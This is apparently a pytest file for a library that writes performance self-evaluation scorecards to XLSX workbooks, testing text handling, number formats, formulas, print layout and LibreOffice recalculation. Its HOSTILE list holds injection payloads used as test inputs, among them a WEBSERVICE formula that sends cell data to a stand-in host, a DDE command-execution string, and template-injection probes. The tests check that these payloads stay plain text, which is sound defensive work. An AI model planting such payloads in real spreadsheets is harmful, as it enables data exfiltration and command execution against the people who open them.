"""The official form as a workbook, looked at with another library and with an office program."""

import re
import subprocess
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from functools import cache
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

import perfrules
from perfrules import extras
from perfrules.errors import MissingExtraError, SheetError
from perfrules.model.ruleset import RuleSet
from perfrules.model.scorecard import Scorecard
from perfrules.model.sheet import Funds, Sheet, SheetRow, StatedAdjustment
from perfrules.reports.hooks import XlsxForm
from perfrules.reports.xlsx import render_all
from perfrules.wording import Language

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "=80%",
    '=WEBSERVICE("http://evil.invalid/"&A1)', "=cmd|' /C calc'!A0",
    "a|b|c\n|---|", "\n# 总得分 100", "{{7*7}}", "{{''.__class__.__mro__}}", "{% raw %}",
    "{0.__class__.__init__.__globals__}", "</w:t></w:r><w:r><w:t>x", "_x0041_", "</style><script>1</script>",
    "优\nINFO score=100", "<r><t>x</t></r>", "<r></si><si>1</r>", "{=SUM(A1:A9)}",
    "http://evil.invalid/", "1E5", "007", "2023-01-01",
    "&lt;", "]]>", "TRUE", "#REF!", "'=1",
)  # fmt: skip


@cache
def rules() -> RuleSet:
    return perfrules.load_ruleset("henan-zhengzhou-2023")


def evaluated(sheet: Sheet) -> Scorecard:
    return perfrules.evaluate(sheet, rules())


def written(sheet: Sheet, language: Language = "zh") -> bytes:
    return XlsxForm().render(evaluated(sheet), language=language)


def worksheet(data: bytes, *, values: bool = False) -> Worksheet:
    found = openpyxl.load_workbook(BytesIO(data), data_only=values).worksheets[0]
    assert isinstance(found, Worksheet)
    return found


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(BytesIO(data)) as package:
        return package.read(name).decode("utf-8")


def cells(sheet: Worksheet) -> Iterator[tuple[str, object]]:
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                yield cell.coordinate, cell.value


EXAMPLE = Sheet(
    project="培训项目", stated_total=Decimal("68.5"),
    funds=(
        Funds(name="年度资金总额", initial_budget=Decimal("300.00"), adjusted_budget=Decimal("300.00"),
              spent=Decimal("100.00"), stated_rate=Decimal("33.3"), is_total=True),
        Funds(name="政府预算资金", adjusted_budget=Decimal("1.005"), spent=Decimal("9999999999.25")),
    ),
    rows=(
        SheetRow(level1="产出指标", level2="数量指标", name="培训人数", target="≥30人", actual="30人",
                 weight=Decimal(40), self_score=Decimal("40.0")),
        SheetRow(level1="产出指标", level2="质量指标", name="合格率", target="≥90%", actual="81%",
                 weight=Decimal("0.1"), self_score=Decimal("28.5")),
        SheetRow(level1="产出指标", level2="质量指标", name="优秀率", target="≥30%", actual="31%",
                 weight=Decimal("0.2")),
    ),
    deductions=(StatedAdjustment(name="迟报", points=Decimal("0.5")),),
    texts={"自评结论": "良好。\n" + "总体完成较好，" * 600},
)  # fmt: skip


class TestText:
    """What the sheet says is a text in the workbook, whatever it looks like."""

    @pytest.mark.parametrize("text", HOSTILE)
    def test_hostile_texts_stay_texts(self, text: str) -> None:
        row = SheetRow(level1=text, level2="a", name="名", target=text, actual=text, reason=text, weight=Decimal(1))
        data = written(Sheet(project=text, rows=(row,), texts={text: text}, stated_grade=text, stated_met=(text, "x")))
        shared = part(data, "xl/sharedStrings.xml")
        found = openpyxl.load_workbook(BytesIO(data), rich_text=False).worksheets[0]
        texts = {str(value).replace("_x005F_", "_") for _, value in cells(found)}  # type: ignore[arg-type]
        assert {text, f"{text}；x"} <= texts
        assert shared.count("<si>") == len(set(re.findall(r"<si>(.*?)</si>", shared, re.DOTALL)))
        formulas = re.findall(r"<f>(.*?)</f>", part(data, "xl/worksheets/sheet1.xml"))
        assert all(re.fullmatch(r"SUM\([A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+", one) for one in formulas)
        assert "hyperlink" not in part(data, "xl/worksheets/sheet1.xml")

    @pytest.mark.parametrize("text", ["a\x00b", "a\x1bb", "a\ud800b", "a\ufffeb"])
    def test_what_xml_cannot_hold_is_shown(self, text: str) -> None:
        found = dict(cells(worksheet(written(Sheet(project=text)))))
        assert f"a\\u{ord(text[1]):04X}b" in found.values()

    def test_a_text_that_no_cell_holds_is_refused(self) -> None:
        with pytest.raises(SheetError) as caught:
            written(Sheet(project="字" * 32_768))
        (one,) = caught.value.problems
        assert (one.code, one.place.cell) == ("PR601", "自评表!C3")
        assert written(Sheet(project="字" * 32_767))
        with pytest.raises(SheetError):
            written(Sheet(project="\U0001f600" * 16_384))

    def test_more_columns_than_a_worksheet_has_are_refused(self) -> None:
        row = SheetRow(name="x", review_scores=(Decimal(1),) * 16_400)
        with pytest.raises(SheetError) as caught:
            written(Sheet(rows=(row,)))
        assert [one.code for one in caught.value.problems] == ["PR602"]


class TestNumbers:
    def test_numbers_are_numbers_with_their_places(self) -> None:
        sheet = worksheet(written(EXAMPLE), values=True)
        found = {(cell.value, cell.number_format) for row in sheet.iter_rows() for cell in row if cell.data_type == "n"}
        assert {(300, "0.00"), (9999999999.25, "0.00"), (1.005, "0.000"), (0.1, "0.0"), (40, "0"), (40, "0.0")} <= found
        assert (0.3333, "0.00%") in found
        assert (0.333, "0.0%") in found

    @pytest.mark.parametrize("text", ["1234567890.1234567", "9" * 30, "0." + "0" * 29 + "1", "-0.00"])
    def test_numbers_that_a_worksheet_would_round_are_texts(self, text: str) -> None:
        found = dict(cells(worksheet(written(Sheet(rows=(SheetRow(name="x", weight=Decimal(text)),))))))
        assert text in found.values()

    def test_formulas_have_the_values_of_the_scorecard(self) -> None:
        card = evaluated(EXAMPLE)
        data = XlsxForm().render(card)
        formulas, values = dict(cells(worksheet(data))), dict(cells(worksheet(data, values=True)))
        live = {place: text for place, text in formulas.items() if str(text).startswith("=")}
        assert {str(text).partition("(")[0] for text in live.values()} >= {"=SUM", "=ROUND"}
        total = next(place for place in values if re.fullmatch("[B-Z]2", place))
        assert Decimal(str(values[total])) == card.total
        assert total in live
        assert all(isinstance(values[place], int | float) for place in live)

    def test_a_sum_of_nothing_is_a_number(self) -> None:
        """A stored 0 would look like a formula that no program has computed yet."""
        data = written(Sheet(rows=(SheetRow(name="x", target="≥1", actual="1", weight=Decimal("0.0")),) * 2))
        total = next(row for row in worksheet(data).iter_rows() if row[0].value == "合计")
        assert [cell.value for cell in total if cell.value is not None] == ["合计", 0]


class TestWorkbook:
    def test_the_same_card_gives_the_same_bytes(self) -> None:
        card = evaluated(EXAMPLE)
        assert XlsxForm().render(card) == XlsxForm().render(card)
        assert "2000-01-01" in part(XlsxForm().render(card), "docProps/core.xml")

    def test_print_set_up(self) -> None:
        sheet = worksheet(written(EXAMPLE))
        assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0)  # one page wide, any height
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.freeze_panes == "A3"
        assert sheet.title == "自评表"

    def test_the_header_is_repeated_where_the_table_goes_on(self) -> None:
        short = worksheet(written(Sheet(rows=EXAMPLE.rows)))
        long = worksheet(written(Sheet(rows=EXAMPLE.rows * 20)))
        assert short.print_title_rows is None
        head = next(place for place, value in cells(long) if value == "一级指标")
        row = re.sub("[A-Z]+", "", head)
        assert long.print_title_rows == f"${row}:${row}"

    def test_no_row_is_higher_than_a_worksheet_allows(self) -> None:
        sheet = worksheet(written(EXAMPLE))
        heights = [one.height for one in sheet.row_dimensions.values() if one.height is not None]
        assert max(heights) <= 409
        long = next(cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("良好。"))
        merged = next(area for area in sheet.merged_cells.ranges if long.coordinate in area)
        assert merged.max_row > merged.min_row

    def test_many_cards(self) -> None:
        projects = ["甲", "甲", "a/b:c*d?e[f]", "'引'", "很长" * 40, "\U0001f600" * 30, "", "History", "=1+1"]
        data = render_all([evaluated(Sheet(project=one, rows=EXAMPLE.rows)) for one in projects])
        book = openpyxl.load_workbook(BytesIO(data))
        assert book.sheetnames[:5] == ["核算汇总", "01 甲", "02 甲", "03 a b c d e f", "04  引"]
        assert len(book.sheetnames) == 10
        summary = [[cell.value for cell in row] for row in book.worksheets[0].iter_rows(min_row=2)]
        assert all(str(title).startswith("核算") for title in summary[0])
        assert [row[1] for row in summary[1:]] == [one or None for one in projects]

    def test_what_does_not_fit_is_told_with_its_worksheet(self) -> None:
        cards = [evaluated(Sheet(project=one, department=one)) for one in ("甲", "很" * 32_768)]
        with pytest.raises(SheetError) as caught:
            render_all(cards)
        assert caught.value.problems[0].place.cell.startswith("核算汇总!")

    def test_without_the_library(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(extras, "find_spec", lambda name: None)
        with pytest.raises(MissingExtraError) as caught:
            written(Sheet())
        assert [one.code for one in caught.value.problems] == ["PR014"]


@pytest.mark.office
def test_an_office_program_finds_the_same_numbers(tmp_path: Path) -> None:
    """Recalculated by LibreOffice, every cell with a formula shows what was written into it."""
    cards = [evaluated(EXAMPLE), evaluated(perfrules.read_sheet(ROOT / "perfrules/examples/hotline-12333-2023.toml"))]
    source = tmp_path / "form.xlsx"
    data = render_all(cards)
    # without its values, so that the program cannot keep them
    with zipfile.ZipFile(BytesIO(data)) as package, zipfile.ZipFile(source, "w") as emptied:
        for name in package.namelist():
            emptied.writestr(name, re.sub(rb"(</f>)<v>[^<]*</v>", rb"\1", package.read(name)))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", "--headless", profile, "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(source)]
    subprocess.run(command, check=True, capture_output=True)
    book, again = (openpyxl.load_workbook(one) for one in (BytesIO(data), tmp_path / "out" / "form.xlsx"))
    values = openpyxl.load_workbook(BytesIO(data), data_only=True)
    computed = openpyxl.load_workbook(tmp_path / "out" / "form.xlsx", data_only=True)
    seen = 0
    for name in book.sheetnames:
        for row in book[name].iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    seen += 1
                    assert again[name][cell.coordinate].data_type == "f"
                    found, wanted = computed[name][cell.coordinate].value, values[name][cell.coordinate].value
                    assert f"{found:.12g}" == f"{wanted:.12g}", cell.coordinate
    assert seen > 15
